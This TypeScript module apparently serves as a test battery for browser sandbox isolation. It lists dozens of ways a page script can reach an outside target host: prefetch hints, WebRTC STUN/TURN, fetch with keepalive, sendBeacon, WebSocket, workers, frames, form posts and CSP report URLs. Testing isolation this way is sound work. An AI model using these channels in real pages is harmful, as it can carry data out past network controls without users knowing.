/** Where an attack sends to: a name that has to be looked up, and addresses that need no look-up. */
export type Target = { name: string; ipv4: string; ipv6: string; local: string };

type Attack = (target: Target) => unknown;

/**
 * What a script in the page could try to get a byte out of the machine, each in the page itself and without help from
 * outside of it. A try that is refused may throw or reject.
 */
export const attacks: Readonly<Record<string, Attack>> = {
  'look-up ahead': (target) => {
    for (const host of Object.values(target)) {
      const link = document.createElement('link');
      Object.assign(link, { rel: 'dns-prefetch', href: `//a1.${host}` });
      document.head.append(link);
      const other = link.cloneNode();
      Object.assign(other, { href: `https://a2.${host}` });
      document.head.append(other);
    }
  },
  'connection ahead': (target) => {
    for (const host of Object.values(target))
      for (const scheme of ['https', 'http'])
        for (const crossOrigin of [null, 'anonymous', 'use-credentials']) {
          const link = document.createElement('link');
          Object.assign(link, { rel: 'preconnect', href: `${scheme}://${host}`, crossOrigin });
          document.head.append(link);
        }
  },
  'page ahead': (target) => {
    for (const host of Object.values(target))
      for (const rel of [
        'prefetch',
        'prerender',
        'preload',
        'modulepreload',
        'stylesheet',
        'icon',
        'manifest',
      ]) {
        const link = document.createElement('link');
        Object.assign(link, { rel, as: 'script', href: `https://${host}/${rel}` });
        document.head.append(link);
      }
  },
  'speculation rules': (target) => {
    for (const kind of ['prefetch', 'prerender']) {
      const script = document.createElement('script');
      script.type = 'speculationrules';
      const urls = Object.values(target).map((host) => `https://${host}/`);
      script.textContent = JSON.stringify({ [kind]: [{ source: 'list', urls, eagerness: 'immediate' }] });
      document.head.append(script);
    }
  },
  'look-up ahead, by a meta tag': (target) => {
    const meta = document.createElement('meta');
    Object.assign(meta, { httpEquiv: 'x-dns-prefetch-control', content: 'on' });
    document.head.append(meta);
    for (const host of Object.values(target)) {
      const link = document.createElement('a');
      Object.assign(link, { href: `https://a3.${host}`, textContent: 'x' });
      document.body.append(link);
    }
  },
  WebRTC: async (target) => {
    const urls = Object.values(target).flatMap((host) => [
      `stun:${host}:3478`,
      `turn:${host}:3478?transport=udp`,
      `turn:${host}:3478?transport=tcp`,
      `turns:${host}:443?transport=tcp`,
    ]);
    const peer = new RTCPeerConnection({
      iceServers: [{ urls, username: 'u', credential: 'c' }],
      iceCandidatePoolSize: 5,
    });
    peer.createDataChannel('x');
    await peer.setLocalDescription(await peer.createOffer());
  },
  'WebRTC to a peer of its own making': async (target) => {
    const [one, other] = [new RTCPeerConnection(), new RTCPeerConnection()];
    one.createDataChannel('x');
    one.onicecandidate = ({ candidate }) => void other.addIceCandidate(candidate ?? undefined);
    other.onicecandidate = ({ candidate }) => void one.addIceCandidate(candidate ?? undefined);
    await one.setLocalDescription(await one.createOffer());
    await other.setRemoteDescription(one.localDescription ?? { type: 'offer' });
    await other.setLocalDescription(await other.createAnswer());
    await one.setRemoteDescription(other.localDescription ?? { type: 'answer' });
    for (const host of [...Object.values(target), 'd6c6a4a6-7f1e-4a5e-9a6f-0f3c3d3a1b2c.local'])
      for (const [protocol, type] of [
        ['udp', ''],
        ['tcp', ' tcptype passive'],
      ])
        await one
          .addIceCandidate({
            candidate: `candidate:1 1 ${protocol} 2122260223 ${host} 5000 typ host${type}`,
            sdpMid: '0',
          })
          .catch(() => {});
  },
  'WebRTC from a frame': async ({ name, ipv4, local }) => {
    const frame = document.createElement('iframe');
    document.body.append(frame);
    const inner: unknown = Reflect.get(frame.contentWindow ?? {}, 'RTCPeerConnection');
    if (typeof inner !== 'function') return;
    const urls = [name, ipv4, local].map((host) => `stun:${host}:3478`);
    const peer: unknown = Reflect.construct(inner, [{ iceServers: [{ urls }] }]);
    if (!(peer instanceof Object)) return;
    const ask = (what: string, ...values: unknown[]): unknown =>
      Reflect.apply(Reflect.get(peer, what), peer, values);
    ask('createDataChannel', 'x');
    await ask('setLocalDescription', await ask('createOffer'));
  },
  fetch: (target) =>
    Promise.allSettled(
      Object.values(target).flatMap((host) => [
        fetch(`https://${host}/`),
        fetch(`http://${host}/`, { method: 'POST', body: 'x', mode: 'no-cors', keepalive: true }),
      ]),
    ),
  'requests of the old kind': (target) => {
    for (const host of Object.values(target)) {
      const request = new XMLHttpRequest();
      request.open('GET', `http://${host}/`);
      request.send();
    }
  },
  beacon: (target) => {
    for (const host of Object.values(target)) navigator.sendBeacon(`https://${host}/`, 'x');
  },
  WebSocket: (target) => {
    for (const host of Object.values(target))
      for (const scheme of ['ws', 'wss']) new WebSocket(`${scheme}://${host}/`);
  },
  WebTransport: (target) =>
    Promise.allSettled(Object.values(target).map((host) => new WebTransport(`https://${host}:4433/`).ready)),
  'stream of events': (target) => {
    for (const host of Object.values(target)) new EventSource(`https://${host}/`);
  },
  pictures: (target) => {
    for (const host of Object.values(target)) {
      new Image().src = `https://${host}/x.png`;
      const picture = document.createElement('div');
      picture.style.backgroundImage = `url(http://${host}/y.png)`;
      document.body.append(picture);
      const tag = document.createElement('img');
      tag.srcset = `http://${host}/z.png 1x`;
      document.body.append(tag);
    }
  },
  'styles and fonts': (target) => {
    for (const host of Object.values(target)) {
      const style = document.createElement('style');
      style.textContent = `@import "https://${host}/x.css"; @font-face { font-family: ${'f'}${host.length}; src: url(https://${host}/x.woff2) } body { font-family: f${host.length}; cursor: url(http://${host}/c.cur), auto }`;
      document.head.append(style);
      void new FontFace('g', `url(http://${host}/g.woff2)`).load().catch(() => {});
    }
  },
  'sound and film': (target) => {
    for (const host of Object.values(target))
      for (const kind of ['audio', 'video'] as const) {
        const media = document.createElement(kind);
        media.src = `https://${host}/x.mp4`;
        document.body.append(media);
        void media.play().catch(() => {});
      }
  },
  scripts: (target) => {
    for (const host of Object.values(target)) {
      const script = document.createElement('script');
      script.src = `https://${host}/x.js`;
      document.head.append(script);
    }
  },
  workers: (target) => {
    for (const host of Object.values(target)) {
      const text = `importScripts("https://${host}/x.js"); fetch("https://${host}/")`;
      for (const address of [URL.createObjectURL(new Blob([text])), `data:text/javascript,${text}`])
        try {
          new Worker(address);
          new SharedWorker(address);
        } catch {}
    }
  },
  'service worker': () => navigator.serviceWorker.register('/sw.js'),
  frames: (target) => {
    for (const host of Object.values(target)) {
      for (const kind of ['iframe', 'embed'] as const) {
        const frame = document.createElement(kind);
        frame.src = `https://${host}/`;
        document.body.append(frame);
      }
      const object = document.createElement('object');
      object.data = `http://${host}/`;
      const inner = document.createElement('iframe');
      inner.srcdoc = `<meta http-equiv=refresh content="0;url=http://${host}/"><img src="http://${host}/x.png"><link rel=preconnect href="http://${host}"><link rel=dns-prefetch href="//a4.${host}">`;
      const view = document.createElement('webview');
      view.setAttribute('src', `https://${host}/`);
      const fenced = document.createElement('fencedframe');
      document.body.append(object, inner, view, fenced);
    }
  },
  'form and ping': (target) => {
    for (const host of Object.values(target)) {
      const form = document.createElement('form');
      Object.assign(form, { action: `https://${host}/`, method: 'post', target: '_blank' });
      document.body.append(form);
      form.submit();
      const link = document.createElement('a');
      Object.assign(link, { href: '#', ping: `https://${host}/` });
      document.body.append(link);
      link.click();
    }
  },
  'another window': (target) => {
    for (const host of Object.values(target)) {
      window.open(`https://${host}/`);
      window.open(`https://${host}/`, '_blank', 'noopener');
    }
  },
  'another page': (target) => {
    for (const host of Object.values(target)) {
      window.location.assign(`https://${host}/`);
      const meta = document.createElement('meta');
      Object.assign(meta, { httpEquiv: 'refresh', content: `0;url=http://${host}/` });
      document.head.append(meta);
    }
  },
  download: (target) => {
    for (const host of Object.values(target)) {
      const link = document.createElement('a');
      Object.assign(link, { href: `https://${host}/x`, download: 'x' });
      document.body.append(link);
      link.click();
    }
  },
  'policy that reports': (target) => {
    for (const host of Object.values(target)) {
      const meta = document.createElement('meta');
      Object.assign(meta, {
        httpEquiv: 'content-security-policy',
        content: `img-src 'none'; report-uri https://${host}/; report-to x`,
      });
      document.head.append(meta);
      new Image().src = '/nothing.png';
    }
  },
  'other programs': ({ name }) => {
    for (const scheme of ['mailto', 'tel', 'sms', 'ftp', 'ssh', 'ms-settings', 'smb', 'x-scheme'])
      for (const start of [
        (to: string) => window.location.assign(to),
        (to: string) => void window.open(to),
        (to: string) => {
          const frame = document.createElement('iframe');
          frame.src = to;
          document.body.append(frame);
        },
      ])
        try {
          start(`${scheme}:x@${name}`);
        } catch {}
  },
  'push and sync': async () => {
    await Notification.requestPermission();
    const worker = await Promise.race([navigator.serviceWorker.ready, Promise.resolve(null)]);
    await worker?.pushManager.subscribe({ userVisibleOnly: true });
  },
  'where am I': () => navigator.geolocation.getCurrentPosition(() => {}),
  'who am I': async ({ name }) => {
    const request = { challenge: new Uint8Array(8), rpId: name };
    await Promise.race([
      navigator.credentials.get({ publicKey: request }),
      new Promise((done) => setTimeout(done, 300)),
    ]);
  },
  'words it cannot spell': () => {
    const text = document.createElement('textarea');
    Object.assign(text, { lang: 'de-AT', spellcheck: true, value: 'Wrod mispeled' });
    document.body.append(text);
    text.focus();
    document.execCommand('insertText', false, ' anthoer wrod ');
  },
  'a film under licence': async () => {
    await navigator.requestMediaKeySystemAccess('com.widevine.alpha', [
      { initDataTypes: ['cenc'], videoCapabilities: [{ contentType: 'video/mp4; codecs="avc1.42E01E"' }] },
    ]);
  },
  printing: () => {
    window.print();
  },
};
